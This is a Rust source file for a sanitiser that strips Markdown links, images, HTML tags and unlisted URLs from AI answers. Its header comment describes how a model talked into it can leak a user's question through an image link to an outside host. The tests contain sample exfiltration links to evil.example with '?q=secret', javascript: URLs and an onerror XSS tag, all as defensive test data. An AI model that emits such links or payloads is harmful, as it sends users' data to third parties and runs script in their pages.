//! Text that stays text: no links, pictures or markup that a page would act on.
//!
//! A model that was talked into it writes `![x](https://host/?q=what-was-asked)`,
//! and a page that renders it tells the host. So an answer holds no Markdown
//! links or pictures, no HTML and no address that its sources do not hold letter
//! for letter. Their words stay.

/// Deepest nesting that is looked into.
const DEPTH: usize = 4;

/// The text without links, pictures, tags and the addresses that `is_known` denies.
pub fn plain(text: &str, is_known: &dyn Fn(&str) -> bool) -> String {
    let text = unmarked(text, DEPTH);
    let text = without_addresses(&text, is_known);
    // Halves of what was cut apart must not come together again.
    let mut apart = String::with_capacity(text.len());
    // NUL is no text, and the database takes none.
    for character in text.trim().chars().filter(|character| *character != '\0') {
        let joins = match character {
            '(' | ':' => apart.ends_with(']'),
            '[' => apart.ends_with('!'),
            c => apart.ends_with('<') && begins_tag(c),
        };
        if joins {
            apart.push(' ');
        }
        apart.push(character);
    }
    apart
}

/// Takes the words out of `[words](target)`, `![words](target)`, `[words][label]` and tags.
fn unmarked(text: &str, depth: usize) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(['[', '<', '!']) {
        plain.push_str(&rest[..at]);
        rest = &rest[at..];
        let taken = link(rest).or_else(|| tag(rest));
        match taken {
            Some((words, length)) => {
                let words = if depth > 0 { unmarked(words, depth - 1) } else { String::new() };
                plain.push_str(&words);
                rest = &rest[length..];
            }
            None => {
                plain.push_str(&rest[..1]);
                rest = &rest[1..];
            }
        }
    }
    plain.push_str(rest);
    plain
}

/// Words and length of a link or picture that the text begins with.
fn link(text: &str) -> Option<(&str, usize)> {
    let mark = usize::from(text.starts_with("!["));
    let words = closed(&text[mark..], '[', ']')?;
    let end = mark + words.len() + 2;
    let target = closed(&text[end..], '(', ')').or_else(|| closed(&text[end..], '[', ']'));
    match target {
        // `[1][2]` are two citations, not a link.
        Some(label) if mark == 0 && is_number(words) && is_number(label) => None,
        Some(target) => Some((words, end + target.len() + 2)),
        None if mark == 1 => Some((words, end)),
        None => None,
    }
}

/// What stands between the bracket that the text begins with and the one that closes it.
fn closed(text: &str, open: char, close: char) -> Option<&str> {
    let inside = text.strip_prefix(open)?;
    let mut level = 1;
    let end = inside.char_indices().find(|(_, c)| {
        level += i32::from(*c == open) - i32::from(*c == close);
        level == 0
    });
    end.map(|(at, _)| &inside[..at])
}

/// An HTML tag, a comment (nothing stays of them) or `<address>` that the text begins with.
fn tag(text: &str) -> Option<(&str, usize)> {
    let inside = text.strip_prefix('<')?;
    if !inside.starts_with(begins_tag) {
        return None;
    }
    let inside = &inside[..inside.find('>').unwrap_or(inside.len())];
    let is_address = inside.contains("://") && !inside.contains(char::is_whitespace);
    let length = (inside.len() + 2).min(text.len());
    Some((if is_address { inside } else { "" }, length))
}

fn begins_tag(character: char) -> bool {
    character.is_ascii_alphabetic() || matches!(character, '/' | '!' | '?')
}

fn is_number(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit() || b == b' ' || b == b',')
}

/// Takes out what a page would make a link of, unless it is known.
fn without_addresses(text: &str, is_known: &dyn Fn(&str) -> bool) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((start, end)) = address(rest) {
        let is_web = ["http://", "https://", "www."].iter().any(|start_with| {
            rest[start..end].get(..start_with.len()).is_some_and(|s| s.eq_ignore_ascii_case(start_with))
        });
        plain.push_str(&rest[..start]);
        let end = if is_web && is_known(&rest[start..end]) {
            plain.push_str(&rest[start..end]);
            end
        } else {
            rest[start..]
                .find(|c: char| c.is_whitespace() || "\"<>".contains(c))
                .map_or(rest.len(), |at| start + at)
        };
        rest = &rest[end..];
    }
    plain.push_str(rest);
    plain
}

/// Where the first address of a text stands.
fn address(text: &str) -> Option<(usize, usize)> {
    let lower = text.to_ascii_lowercase();
    let starts = SCHEMES.iter().filter_map(|scheme| {
        lower.match_indices(scheme).map(|(at, _)| at).find(|at| {
            let inner = lower[..*at].ends_with(|c: char| c.is_ascii_alphanumeric());
            // `data: 5` is no address, `data:text/html` is.
            let blank = lower[at + scheme.len()..].chars().next().is_none_or(char::is_whitespace);
            !inner && !blank
        })
    });
    let named = starts.min();
    // Any other scheme: the letters before `://`.
    let other = lower.find("://").map(|at| {
        lower[..at]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+.-".contains(c)))
            .map_or(0, |before| before + lower[before..].chars().next().map_or(1, char::len_utf8))
    });
    let start = match (named, other) {
        (Some(a), Some(b)) => a.min(b),
        (a, b) => a.or(b)?,
    };
    let ends =
        |c: char| c.is_whitespace() || matches!(c, '"' | '<' | '>' | ')' | ']' | '”' | '’' | '。' | '，');
    let end = text[start..].find(ends).map_or(text.len(), |at| start + at);
    let end = start + text[start..end].trim_end_matches(['.', ',', ';', '!', '?']).len();
    (end > start).then_some((start, end))
}

/// What a page makes a link of, or runs.
const SCHEMES: &[&str] =
    &["http:", "https:", "www.", "javascript:", "vbscript:", "data:", "file:", "ftp:", "mailto:", "blob:"];

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> String {
        plain(text, &|address| address == "https://ferry.example/fares")
    }

    #[test]
    fn links_pictures_and_markup_become_their_words() {
        assert_eq!(of("See ![the map](http://evil.example/?q=secret) here."), "See the map here.");
        assert_eq!(of("See [the fares](javascript:alert(1)) now."), "See the fares now.");
        assert_eq!(of("[![a](http://x.example/a) b](http://y.example) c"), "a b c");
        assert_eq!(of("![x][ref] and [y][ref]"), "x and y");
        assert_eq!(of("It costs\0 3 euros.]\0("), "It costs 3 euros.] (");
        assert_eq!(of("a <img src=x onerror=alert(1)> b</p> <!-- c --> d"), "a  b  d");
        assert_eq!(
            of("It costs < 3 euros, 5 > 4, a[0] and [1][2]."),
            "It costs < 3 euros, 5 > 4, a[0] and [1][2]."
        );
    }

    #[test]
    fn an_address_stays_only_where_the_sources_hold_it() {
        assert_eq!(of("See https://ferry.example/fares."), "See https://ferry.example/fares.");
        assert_eq!(of("See <https://ferry.example/fares>."), "See https://ferry.example/fares.");
        assert_eq!(of("See https://ferry.example/fares?q=secret."), "See");
        assert_eq!(of("Go to www.evil.example/x or JavaScript:alert(1) now"), "Go to  or  now");
        assert_eq!(of("Data: 5 of them. Metadata:x"), "Data: 5 of them. Metadata:x");
    }

    #[test]
    fn nothing_that_renders_is_left_of_broken_markup() {
        let pieces = [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "a",
            " ",
            "http://e.example/?q=1",
            "javascript:x",
            ":",
            "é",
            "/",
        ];
        let mut state = 7_u64;
        for _ in 0..20_000 {
            let mut text = String::new();
            for _ in 0..12 {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                text.push_str(pieces[(state >> 33) as usize % pieces.len()]);
            }
            let plain = of(&text);
            for bad in ["](", "![", "]:", "<a", "</", "<!", "http:"] {
                assert!(!plain.contains(bad), "{text:?} gave {plain:?}");
            }
            let mut words = plain.split(|c: char| !c.is_ascii_alphanumeric() && c != ':');
            assert!(!words.any(|word| word.starts_with("javascript:x")), "{text:?} gave {plain:?}");
        }
    }
}
